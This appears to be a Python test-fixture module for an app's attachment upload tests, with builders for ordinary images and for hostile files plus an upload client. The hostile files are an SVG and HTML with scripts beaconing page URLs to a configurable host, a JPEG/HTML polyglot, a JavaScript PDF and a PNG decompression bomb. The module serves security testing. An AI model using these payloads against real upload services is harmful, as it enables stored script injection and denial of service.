"""Files for the attachment suites: ordinary ones, hostile ones, and a client that
uploads them to a live Papo the way the widget and the console do (raw body,
``X-Papo-Name``, ``Authorization: Bearer`` or session + CSRF)."""

from __future__ import annotations

import http.client
import io
import json
import struct
import zlib
from dataclasses import dataclass
from urllib.parse import quote, urlsplit

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT_MARK = "papo-pwned"


def beacon_script(beacon: str) -> str:
    """What every hostile file tries to run: a request to ``beacon`` (the test counts
    them) and a title change."""
    return (f"document.title='{SCRIPT_MARK}';"
            f"fetch('{beacon}?from='+encodeURIComponent(location.href),{{mode:'no-cors'}});"
            f"new Image().src='{beacon}?img=1';")


def png(width: int = 64, height: int = 48, color=(200, 30, 30)) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (width, height), color).save(out, "PNG")
    return out.getvalue()


def jpeg_with_exif(width: int = 640, height: int = 480, orientation: int = 6) -> bytes:
    """A photo with GPS coordinates, a camera name and an orientation tag (rotate 90)."""
    from PIL import Image

    img = Image.new("RGB", (width, height), (20, 120, 220))
    for x in range(width // 2):  # a mark in the top-left quarter, to see the rotation
        for y in range(height // 2):
            img.putpixel((x, y), (250, 250, 0))
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "PapoCam"
    exif[0x0110] = "Model Secret"
    gps = {1: "S", 2: (23.0, 33.0, 1.0), 3: "W", 4: (46.0, 38.0, 2.0)}
    exif[0x8825] = gps
    out = io.BytesIO()
    img.save(out, "JPEG", exif=exif.tobytes(), quality=90)
    return out.getvalue()


def svg_with_script(beacon: str) -> bytes:
    return (f'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" '
            f'onload="{beacon_script(beacon)}"><script>{beacon_script(beacon)}</script>'
            f'<rect width="10" height="10"/></svg>').encode()


def html_page(beacon: str) -> bytes:
    return (f"<!doctype html><html><body><h1>hi</h1><script>{beacon_script(beacon)}"
            f"</script></body></html>").encode()


def jpeg_html_polyglot(beacon: str) -> bytes:
    """A valid JPEG whose comment segment and tail hold an HTML page with a script."""
    base = jpeg_with_exif(64, 64, orientation=1)
    html = b"<html><body><script>" + beacon_script(beacon).encode() + b"</script></body></html>"
    comment = b"\xff\xfe" + struct.pack(">H", len(html) + 2) + html
    return base[:2] + comment + base[2:] + html


def png_bomb(width: int = 30_000, height: int = 30_000) -> bytes:
    """A whole, valid PNG of ``width`` x ``height`` black pixels (900 million, 3.6 GB
    as RGBA once decoded) in about 110 KB of deflated zeros."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))

    row = b"\x00" + b"\x00" * ((width + 7) // 8)  # 1 bit per pixel, filter 0
    compressor = zlib.compressobj(9)
    block = row * 1000
    data = b"".join(compressor.compress(block) for _ in range(height // 1000))
    data += compressor.compress(row * (height % 1000)) + compressor.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", data)
            + chunk(b"IEND", b""))


def animated_gif() -> bytes:
    from PIL import Image

    frames = [Image.new("RGB", (40, 30), c) for c in ((255, 0, 0), (0, 255, 0), (0, 0, 255))]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)
    return out.getvalue()


def pdf(size: int = 0) -> bytes:
    """A PDF with JavaScript in it; ``size`` pads it (with a comment) to about that many bytes."""
    head = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n"
            b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
            b"3 0 obj<</S/JavaScript/JS(app.alert\\('pwned'\\))>>endobj\ntrailer<</Root 1 0 R>>\n")
    pad = b"%" + b"x" * (size - len(head) - 8) + b"\n" if size > len(head) + 8 else b""
    return head + pad + b"%%EOF\n"


@dataclass
class Answer:
    status: int
    body: dict
    headers: dict

    @property
    def code(self) -> str | None:
        return self.body.get("error")


def upload(base: str, path: str, data: bytes, name: str, *, token: str | None = None,
           origin: str | None = None, cookie: str | None = None, csrf: str | None = None,
           upload_id: str | None = None, content_type: str = "application/octet-stream",
           timeout: float = 60) -> Answer:
    """POST ``data`` as an upload, the way the clients do."""
    parts = urlsplit(base)
    conn = http.client.HTTPConnection(parts.hostname, parts.port, timeout=timeout)
    headers = {"Content-Type": content_type, "X-Papo-Name": quote(name, safe=""),
               "Content-Length": str(len(data))}
    if token is not None:
        headers["Authorization"] = f"Bearer {token}"
    if origin is not None:
        headers["Origin"] = origin
    if cookie is not None:
        headers["Cookie"] = cookie
    if csrf is not None:
        headers["X-CSRFToken"] = csrf
    if upload_id is not None:
        headers["X-Papo-Upload-Id"] = upload_id
    try:
        conn.request("POST", path, body=data, headers=headers)
        res = conn.getresponse()
        raw = res.read()
        try:
            body = json.loads(raw or b"{}")
        except ValueError:
            body = {"raw": raw[:200].decode("latin-1")}
        return Answer(res.status, body, {k.lower(): v for k, v in res.getheaders()})
    finally:
        conn.close()


CSRF = "c" * 32  # a CSRF token the tests set as the cookie and send as the header


def agent_upload(live, key: str, agent: dict, data: bytes, name: str, **kw) -> Answer:
    """An agent's upload to a site, as the console sends it (session cookie + CSRF)."""
    return upload(live.server.http, f"/console/sites/{key}/uploads", data, name,
                  cookie=f"sessionid={agent['session']}; csrftoken={CSRF}",
                  csrf=kw.pop("csrf", CSRF), origin=live.server.http, **kw)


def get(base: str, url: str, *, cookie: str | None = None) -> tuple[int, dict, bytes]:
    """GET a file link (a path on ``base``, or absolute): status, headers, body."""
    target = url if url.startswith("http") else base + url
    parts = urlsplit(target)
    conn = http.client.HTTPConnection(parts.hostname, parts.port, timeout=30)
    try:
        conn.request("GET", parts.path + (f"?{parts.query}" if parts.query else ""),
                     headers={"Cookie": cookie} if cookie else {})
        res = conn.getresponse()
        return res.status, {k.lower(): v for k, v in res.getheaders()}, res.read()
    finally:
        conn.close()
